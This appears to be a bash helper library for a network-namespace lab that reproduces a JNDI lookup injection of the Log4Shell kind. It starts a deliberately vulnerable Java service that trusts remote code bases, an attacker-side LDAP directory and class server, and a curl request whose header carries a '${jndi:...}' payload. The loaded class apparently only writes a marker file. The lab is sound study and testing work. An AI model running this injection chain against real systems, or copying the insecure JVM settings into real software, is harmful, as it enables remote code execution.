# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The programs of the laboratory: nginx and the vulnerable program in the DMZ, slapd and the class server of the
# attacker. To be sourced after lab.sh. Each *_start returns when the program listens.

# ---- DMZ: nginx with files of several sizes: /1k /64k /1m /16m and /index.html

nginx_start() {
	local root=$LAB/nginx size
	lab_need nginx
	mkdir -p "$root/files"
	echo '<!DOCTYPE html><title>lab</title><p>an ordinary page' > "$root/files/index.html"
	for size in 1 64 1024 16384; do
		head -c "${size}k" /dev/urandom > "$root/files/${size}k"
	done
	mv "$root/files/1024k" "$root/files/1m"
	mv "$root/files/16384k" "$root/files/16m"
	cat > "$root/nginx.conf" <<-END
		daemon off;
		user root;
		worker_processes 1;
		pid $root/pid;
		error_log $root/error.log;
		events { worker_connections 512; }
		http {
			access_log $root/access.log;
			client_body_temp_path $root/body;
			proxy_temp_path $root/proxy;
			fastcgi_temp_path $root/fastcgi;
			uwsgi_temp_path $root/uwsgi;
			scgi_temp_path $root/scgi;
			default_type application/octet-stream;
			types { text/html html; }
			server {
				listen $LAB_HTTP_PORT;
				listen [::]:$LAB_HTTP_PORT;
				root $root/files;
			}
		}
	END
	lab_start nginx "$LAB_DMZ" nginx -c "$root/nginx.conf" -e "$root/error.log"
	wait_for 10 listens "$LAB_DMZ" "$LAB_HTTP_PORT"
}

# ---- DMZ: the program that looks up what it logs

# Compiles both Java programs once: the payload where only the class server finds it.
java_build() {
	lab_need java javac
	[ ! -d "$LAB/payload" ] || return 0
	mkdir -p "$LAB/lookup" "$LAB/payload"
	javac --release 17 -d "$LAB/lookup" "$LAB_SOURCE/Lookup.java"
	javac --release 8 -Xlint:-options -d "$LAB/payload" "$LAB_SOURCE/Payload.java"
}

# Trusts remote code bases, as Java did by default until 8u191. The marker is made by the class if it is loaded.
lookup_start() {
	java_build
	lab_start lookup "$LAB_DMZ" java -XX:TieredStopAtLevel=1 -Xmx64m -cp "$LAB/lookup" \
		-Dcom.sun.jndi.ldap.object.trustURLCodebase=true -Djdk.jndi.ldap.object.factoriesFilter='*' \
		-Dlab.marker="$LAB/marker" Lookup "$LAB_LOOKUP_PORT"
	wait_for 20 listens "$LAB_DMZ" "$LAB_LOOKUP_PORT"
}

marker_exists() {
	[ -e "$LAB/marker" ]
}

# lookup_attack [URL]: the request that starts it all. Prints what the program answers, or fails after 20 s.
lookup_attack() {
	in_attacker curl -sS --max-time 20 --interface "$LAB_ATTACKER_ADDRESS" \
		-H "X-Api-Version: \${jndi:${1:-$LAB_URL}}" "http://$LAB_DMZ_ADDRESS:$LAB_LOOKUP_PORT/"
}

# ---- attacker: class server and directory

class_server_start() {
	lab_need python3
	java_build
	lab_start classes "$LAB_ATTACKER" python3 -u -m http.server --bind "$LAB_ATTACKER_ADDRESS" \
		--directory "$LAB/payload" "$LAB_CLASS_PORT"
	wait_for 10 listens "$LAB_ATTACKER" "$LAB_CLASS_PORT"
}

slapd_configure() { # slapd_configure FOLDER
	local root=$1 schema=/etc/ldap/schema
	[ -r $schema/java.schema ] || lab_skip "needs $schema/java.schema"
	mkdir -p "$root/data"
	cat > "$root/slapd.conf" <<-END
		include $schema/core.schema
		include $schema/java.schema
		pidfile $root/pid
		modulepath /usr/lib/ldap
		moduleload back_mdb
		access to * by * read
		database mdb
		maxsize 16777216
		suffix "dc=lab,dc=example"
		directory $root/data
	END
	cat > "$root/entries.ldif" <<-END
		dn: dc=lab,dc=example
		objectClass: dcObject
		objectClass: organization
		dc: lab
		o: lab

		dn: $LAB_ENTRY
		objectClass: javaContainer
		objectClass: javaNamingReference
		cn: payload
		javaClassName: Payload
		javaFactory: Payload
		javaCodeBase: http://$LAB_ATTACKER_ADDRESS:$LAB_CLASS_PORT/

		dn: cn=harmless,dc=lab,dc=example
		objectClass: organizationalRole
		cn: harmless
		description: an entry that names no class
	END
	slapadd -f "$root/slapd.conf" -l "$root/entries.ldif"
}

slapd_start() {
	local root=$LAB/slapd
	lab_need slapd slapadd
	mkdir -p "$root"
	slapd_configure "$root" > "$LAB/slapadd.log" 2>&1 || { cat "$LAB/slapadd.log" >&2; return 1; }
	# -d keeps it in the foreground, under the pid we know.
	lab_start slapd "$LAB_ATTACKER" slapd -d 256 -f "$root/slapd.conf" -h "ldap://$LAB_ATTACKER_ADDRESS:$LAB_LDAP_PORT/"
	wait_for 10 listens "$LAB_ATTACKER" "$LAB_LDAP_PORT"
}

# Everything the attack needs, on both sides.
attack_services_start() {
	java_build
	class_server_start
	slapd_start
	lookup_start
}
